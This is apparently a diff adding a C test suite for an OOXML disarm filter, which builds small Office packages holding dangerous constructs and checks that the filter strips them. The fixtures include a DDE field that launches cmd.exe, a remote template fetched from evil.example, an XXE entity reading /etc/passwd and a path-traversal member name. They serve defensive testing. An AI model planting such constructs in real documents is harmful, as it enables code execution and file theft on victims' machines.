@@ -1,0 +1,388 @@
+/*
+ * NAME
+ *   test_ooxml - the OOXML disarm filter (filters/f_ooxml.c), in process
+ *
+ * DESCRIPTION
+ *   Small packages built here with libarchive, one per dangerous construct
+ *   (vbaProject, ActiveX, OLE object, external template, altChunk, DDE and
+ *   INCLUDE fields, external hyperlink, customUI, DTD/XXE, bad names, not a
+ *   zip, OLE2/encrypted); each row says which strings must be gone from
+ *   the whole output, which must stay, the note and the output type.  The
+ *   real oletools samples must come out without vbaProject/activeX/
+ *   oleObject/embeddings parts or external relationships, and the output
+ *   must pass the filter again with nothing left to remove.
+ */
+#include <archive.h>
+#include <archive_entry.h>
+#include <string.h>
+
+#include "f_ooxml.h"
+#include "testutil.h"
+
+#define DOCX_T "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+#define DOCM_MAIN "application/vnd.ms-word.document.macroEnabled.main+xml"
+#define R_NS "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+#define W_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+static const mk_wopts opts = { .max_output = 64 * 1024 * 1024 };
+
+static void gstring_free(gpointer s)
+{
+	g_string_free(s, TRUE);
+}
+
+static GBytes *make_zip(GPtrArray *names, GPtrArray *datas)
+{
+	struct archive *a = archive_write_new();
+	gsize cap = 1 << 20, used = 0;
+	char *buf = g_malloc(cap);
+	archive_write_set_format_zip(a);
+	ck_assert_int_eq(archive_write_open_memory(a, buf, cap, &used), ARCHIVE_OK);
+	for (guint i = 0; i < names->len; i++) {
+		struct archive_entry *e = archive_entry_new();
+		const char *d = datas->pdata[i];
+		archive_entry_set_pathname(e, names->pdata[i]);
+		archive_entry_set_filetype(e, AE_IFREG);
+		archive_entry_set_perm(e, 0644);
+		archive_entry_set_size(e, (la_int64_t)strlen(d));
+		ck_assert_int_eq(archive_write_header(a, e), ARCHIVE_OK);
+		archive_write_data(a, d, strlen(d));
+		archive_entry_free(e);
+	}
+	archive_write_close(a);
+	archive_write_free(a);
+	return g_bytes_new_take(buf, used);
+}
+
+/* All members of a zip, name → content (NULL table if not a zip). */
+static GHashTable *unzip_all(GBytes *z)
+{
+	gsize len = 0;
+	const void *d = g_bytes_get_data(z, &len);
+	struct archive *a = archive_read_new();
+	struct archive_entry *e;
+	GHashTable *h = g_hash_table_new_full(g_str_hash, g_str_equal, g_free,
+	                                      gstring_free);
+	archive_read_support_format_zip(a);
+	ck_assert_int_eq(archive_read_open_memory(a, d, len), ARCHIVE_OK);
+	while (archive_read_next_header(a, &e) == ARCHIVE_OK) {
+		GString *s = g_string_new(NULL);
+		char chunk[8192];
+		la_ssize_t n;
+		while ((n = archive_read_data(a, chunk, sizeof chunk)) > 0)
+			g_string_append_len(s, chunk, n);
+		ck_assert_int_eq(n, 0);
+		g_hash_table_insert(h, g_strdup(archive_entry_pathname(e)), s);
+	}
+	archive_read_free(a);
+	return h;
+}
+
+static bool any_contains(GHashTable *h, const char *needle, bool names)
+{
+	GHashTableIter it;
+	gpointer k, v;
+	g_hash_table_iter_init(&it, h);
+	while (g_hash_table_iter_next(&it, &k, &v)) {
+		char *lk = g_ascii_strdown(k, -1);
+		bool hit = names ? strstr(lk, needle) != NULL
+		                 : strstr(((GString *)v)->str, needle) != NULL;
+		g_free(lk);
+		if (hit)
+			return true;
+	}
+	return false;
+}
+
+static const struct row {
+	const char *name;
+	const char *main_ct;        /* NULL = docx */
+	const char *overrides;      /* extra <Override/> */
+	const char *doc_rels;       /* extra word/_rels/document.xml.rels rows */
+	const char *root_rels;      /* extra _rels/.rels rows */
+	const char *body;           /* inside <w:body> */
+	const char *extra[3][2];    /* more parts */
+	const char *gone[3];        /* in no output member (lower case names) */
+	const char *kept;           /* in some output member */
+	const char *note;
+	int rc;
+} rows[] = {
+	{ "vbaproject", DOCM_MAIN,
+	  "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
+	  "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>",
+	  NULL, "<w:p><w:r><w:t>hello</w:t></w:r></w:p>",
+	  { { "word/vbaProject.bin", "VBA\x01" } },
+	  { "vbaproject", "macroenabled" }, "hello", "vbaProject.bin", 0 },
+	{ "activex", NULL,
+	  "<Override PartName=\"/word/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>",
+	  "<Relationship Id=\"rId8\" Type=\"" R_NS "/control\" Target=\"activeX/activeX1.xml\"/>",
+	  NULL, "<w:p><w:r><w:object><w:control r:id=\"rId8\" w:name=\"X\"/></w:object><w:t>ok</w:t></w:r></w:p>",
+	  { { "word/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"urn:x\"/>" } },
+	  { "activex", "w:control" }, "ok", "activeX1.xml", 0 },
+	{ "oleobject", NULL,
+	  "<Override PartName=\"/word/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>",
+	  "<Relationship Id=\"rId7\" Type=\"" R_NS "/oleObject\" Target=\"embeddings/oleObject1.bin\"/>",
+	  NULL, "<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" ProgID=\"Package\" r:id=\"rId7\"/></w:object></w:r></w:p>",
+	  { { "word/embeddings/oleObject1.bin", "OLE" } },
+	  { "oleobject", "rid7" }, "w:object", "oleObject1.bin", 0 },
+	{ "external-template", NULL,
+	  "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
+	  "<Relationship Id=\"rId3\" Type=\"" R_NS "/settings\" Target=\"settings.xml\"/>",
+	  NULL, "<w:p/>",
+	  { { "word/settings.xml", "<w:settings xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\"><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"100\"/></w:settings>" },
+	    { "word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" R_NS "/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>" } },
+	  { "evil.example", "attachedtemplate" }, "w:zoom", "external relationship", 0 },
+	{ "altchunk", NULL,
+	  "<Override PartName=\"/word/afchunk.mht\" ContentType=\"message/rfc822\"/>",
+	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/aFChunk\" Target=\"afchunk.mht\"/>",
+	  NULL, "<w:altChunk r:id=\"rId5\"/><w:p><w:r><w:t>after</w:t></w:r></w:p>",
+	  { { "word/afchunk.mht", "MIME-Version: 1.0" } },
+	  { "afchunk", "altchunk" }, "after", "afchunk.mht", 0 },
+	{ "dde-field", NULL, NULL, NULL, NULL,
+	  "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>"
+	  "<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"
+	  "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>cached</w:t></w:r>"
+	  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
+	  { { NULL } }, { "cmd.exe", "instrtext", "fldchar" }, "cached", "field", 0 },
+	{ "include-simple", NULL, NULL, NULL, NULL,
+	  "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://x/a.png&quot; \\d\"><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>",
+	  { { NULL } }, { "includepicture", "fldsimple" }, "pic", "field", 0 },
+	{ "safe-field", NULL, NULL, NULL, NULL,
+	  "<w:p><w:fldSimple w:instr=\"PAGE\"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>",
+	  { { NULL } }, { NULL }, "w:fldSimple", NULL, 0 },
+	{ "hyperlink", NULL, NULL,
+	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/>",
+	  NULL, "<w:p><w:hyperlink r:id=\"rId4\"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>",
+	  { { NULL } }, { "evil.example", "rid4" }, "link", "external relationship", 0 },
+	{ "customui", NULL,
+	  "<Override PartName=\"/customUI/customUI.xml\" ContentType=\"application/xml\"/>",
+	  NULL, "<Relationship Id=\"rIdU\" Type=\"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility\" Target=\"customUI/customUI.xml\"/>",
+	  "<w:p/>", { { "customUI/customUI.xml", "<customUI onLoad=\"Evil\"/>" } },
+	  { "customui", "onload" }, "w:body", "customUI.xml", 0 },
+	{ "dtd", NULL, NULL, NULL, NULL, "<w:p/>",
+	  { { NULL } }, { NULL }, NULL, NULL, MK_ERR_DATA },
+	{ "xmlm-macrosheet", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", NULL, NULL,
+	  NULL, NULL, { { NULL } }, { NULL }, NULL, NULL, MK_ERR_DATA },
+};
+
+static GBytes *build_row(const struct row *r)
+{
+	GPtrArray *n = g_ptr_array_new(), *d = g_ptr_array_new_with_free_func(g_free);
+	const char *main_ct = r->main_ct ? r->main_ct : DOCX_T ".main+xml";
+	bool dtd = strcmp(r->name, "dtd") == 0;
+
+	g_ptr_array_add(n, "[Content_Types].xml");
+	g_ptr_array_add(d, g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+	    "<Override PartName=\"/word/document.xml\" ContentType=\"%s\"/>%s</Types>",
+	    main_ct, r->overrides ? r->overrides : ""));
+	g_ptr_array_add(n, "_rels/.rels");
+	g_ptr_array_add(d, g_strdup_printf("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/officeDocument\" Target=\"word/document.xml\"/>%s</Relationships>",
+	    r->root_rels ? r->root_rels : ""));
+	g_ptr_array_add(n, "word/document.xml");
+	g_ptr_array_add(d, g_strdup_printf("<?xml version=\"1.0\"?>%s<w:document xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\"><w:body>%s</w:body></w:document>",
+	    dtd ? "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" : "",
+	    r->body ? r->body : "&x;"));
+	g_ptr_array_add(n, "word/_rels/document.xml.rels");
+	g_ptr_array_add(d, g_strdup_printf("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">%s</Relationships>",
+	    r->doc_rels ? r->doc_rels : ""));
+	for (int i = 0; i < 3 && r->extra[i][0]; i++) {
+		g_ptr_array_add(n, (gpointer)r->extra[i][0]);
+		g_ptr_array_add(d, g_strdup(r->extra[i][1]));
+	}
+	GBytes *z = make_zip(n, d);
+	g_ptr_array_free(n, TRUE);
+	g_ptr_array_unref(d);
+	return z;
+}
+
+static int run(GBytes *in, GBytes **out, char **type, GPtrArray *notes,
+               mk_error *err)
+{
+	*out = NULL;
+	*type = NULL;
+	int rc = mk_wfilter_ooxml.run(in, &opts, out, type, notes, err);
+	if (rc < 0)
+		ck_assert_ptr_null(*out);
+	return rc;
+}
+
+static bool notes_have(GPtrArray *notes, const char *sub)
+{
+	for (guint i = 0; i < notes->len; i++)
+		if (strstr(notes->pdata[i], sub))
+			return true;
+	return false;
+}
+
+/* The output is clean and a second pass finds nothing more to remove. */
+static void check_again(GBytes *out, const char *type)
+{
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	GBytes *o2 = NULL;
+	char *t2 = NULL;
+	ck_assert_msg(run(out, &o2, &t2, notes, &err) == 0, "again: %s", err.msg);
+	ck_assert_str_eq(t2, type);
+	ck_assert_msg(notes->len == 0, "again: %s", (char *)notes->pdata[0]);
+	g_bytes_unref(o2);
+	g_free(t2);
+	g_ptr_array_unref(notes);
+}
+
+START_TEST(test_rows)
+{
+	const struct row *r = &rows[_i];
+	GBytes *in = build_row(r), *out = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	char *type = NULL;
+	int rc = run(in, &out, &type, notes, &err);
+
+	ck_assert_msg(rc == r->rc, "%s: rc %d (%s)", r->name, rc, err.msg);
+	if (rc == 0) {
+		GHashTable *h = unzip_all(out);
+		ck_assert_str_eq(type, DOCX_T);
+		for (int k = 0; k < 3 && r->gone[k]; k++) {
+			ck_assert_msg(!any_contains(h, r->gone[k], true), "%s: part %s",
+			              r->name, r->gone[k]);
+			GString *all = g_string_new(NULL);
+			GHashTableIter it;
+			gpointer key, v;
+			g_hash_table_iter_init(&it, h);
+			while (g_hash_table_iter_next(&it, &key, &v))
+				g_string_append(all, ((GString *)v)->str);
+			char *low = g_ascii_strdown(all->str, -1);
+			ck_assert_msg(!strstr(low, r->gone[k]), "%s: %s left", r->name,
+			              r->gone[k]);
+			g_free(low);
+			g_string_free(all, TRUE);
+		}
+		ck_assert_msg(any_contains(h, r->kept, false), "%s: lost %s",
+		              r->name, r->kept);
+		if (r->note)
+			ck_assert_msg(notes_have(notes, r->note), "%s: no note %s",
+			              r->name, r->note);
+		else
+			ck_assert_uint_eq(notes->len, 0);
+		check_again(out, type);
+		g_hash_table_destroy(h);
+	}
+	g_bytes_unref(in);
+	if (out)
+		g_bytes_unref(out);
+	g_free(type);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+START_TEST(test_not_ooxml)
+{
+	static const struct { const char *data, *msg; } bad[] = {
+		{ "not a zip at all", "zip" },
+		{ "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 ole2", "encrypted" },
+	};
+	GBytes *in = g_bytes_new_static(bad[_i].data, strlen(bad[_i].data));
+	GBytes *out = NULL;
+	char *type = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	ck_assert_int_eq(run(in, &out, &type, notes, &err), MK_ERR_DATA);
+	ck_assert_msg(strstr(err.msg, bad[_i].msg), "%s", err.msg);
+	g_bytes_unref(in);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+START_TEST(test_bad_name)
+{
+	GPtrArray *n = g_ptr_array_new(), *d = g_ptr_array_new();
+	g_ptr_array_add(n, "../evil.xml");
+	g_ptr_array_add(d, "<x/>");
+	GBytes *in = make_zip(n, d), *out = NULL;
+	char *type = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	ck_assert_int_eq(run(in, &out, &type, notes, &err), MK_ERR_DATA);
+	g_bytes_unref(in);
+	g_ptr_array_free(n, TRUE);
+	g_ptr_array_free(d, TRUE);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+static const struct sample {
+	const char *path;       /* under corpora/oletools/ */
+	int rc;
+	const char *type_tail;  /* end of the output type */
+} samples[] = {
+	{ "oleform/oleform-PR314.docm", 0, "wordprocessingml.document" },
+	{ "oleobj/embedded-simple-2007.docm", 0, "wordprocessingml.document" },
+	{ "oleobj/embedded-simple-2007.docx", 0, "wordprocessingml.document" },
+	{ "oleobj/embedded-simple-2007.dotm", 0, "wordprocessingml.template" },
+	{ "oleobj/embedded-simple-2007.xlsm", 0, "spreadsheetml.sheet" },
+	{ "oleobj/embedded-simple-2007.pptm", 0, "presentationml.presentation" },
+	{ "oleobj/embedded-simple-2007.ppsm", 0, "presentationml.slideshow" },
+	{ "oleobj/embedded-unicode-2007.docx", 0, "wordprocessingml.document" },
+	{ "oleobj/external_link/sample_with_external_link_to_doc.docx", 0, "document" },
+	{ "oleobj/external_link/sample_with_external_link_to_doc.xlsm", 0, "sheet" },
+	{ "oleobj/external_link/sample_with_external_link_to_doc.pptx", 0, "presentation" },
+	{ "msodde/dde-test.docx", 0, "wordprocessingml.document" },
+	{ "msodde/dde-test.xlsx", 0, "spreadsheetml.sheet" },
+	{ "msodde/harmless-clean.docm", 0, "wordprocessingml.document" },
+	{ "excel4-macros/excel4_sample_macro.xlsm", 0, "spreadsheetml.sheet" },
+	{ "excel4-macros/excel4_sample_macro.xlsb", MK_ERR_DATA, NULL },
+	{ "encrypted/encrypted.docx", MK_ERR_DATA, NULL },
+	{ "oleobj/external_link/sample_with_external_link_to_doc.xlsb", MK_ERR_DATA, NULL },
+};
+
+START_TEST(test_samples)
+{
+	const struct sample *s = &samples[_i];
+	char *rel = g_strconcat("corpora/oletools/", s->path, NULL);
+	char *path = mkt_shared_path(rel);
+	GBytes *in = mkt_read(path), *out = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	char *type = NULL;
+	int rc = run(in, &out, &type, notes, &err);
+
+	ck_assert_msg(rc == s->rc, "%s: rc %d (%s)", s->path, rc, err.msg);
+	if (rc == 0) {
+		GHashTable *h = unzip_all(out);
+		ck_assert_msg(g_str_has_suffix(type, s->type_tail), "%s: %s", s->path,
+		              type);
+		static const char *const names[] = { "vba", "activex", "oleobject",
+			"embeddings", "macrosheet", "externallink", NULL };
+		for (int k = 0; names[k]; k++)
+			ck_assert_msg(!any_contains(h, names[k], true), "%s: %s part",
+			              s->path, names[k]);
+		ck_assert(!any_contains(h, "TargetMode=\"External\"", false));
+		ck_assert(!any_contains(h, "macroEnabled", false));
+		ck_assert(!any_contains(h, "DDEAUTO", false));
+		check_again(out, type);
+		g_hash_table_destroy(h);
+	}
+	if (out)
+		g_bytes_unref(out);
+	g_bytes_unref(in);
+	g_free(type);
+	g_free(path);
+	g_free(rel);
+	g_ptr_array_unref(notes);
+}
+END_TEST
+
+int main(void)
+{
+	Suite *s = suite_create("ooxml");
+	TCase *tc = tcase_create("ooxml");
+	tcase_add_loop_test(tc, test_rows, 0, G_N_ELEMENTS(rows));
+	tcase_add_loop_test(tc, test_not_ooxml, 0, 2);
+	tcase_add_test(tc, test_bad_name);
+	tcase_add_loop_test(tc, test_samples, 0, G_N_ELEMENTS(samples));
+	suite_add_tcase(s, tc);
+	return mkt_run(s);
+}
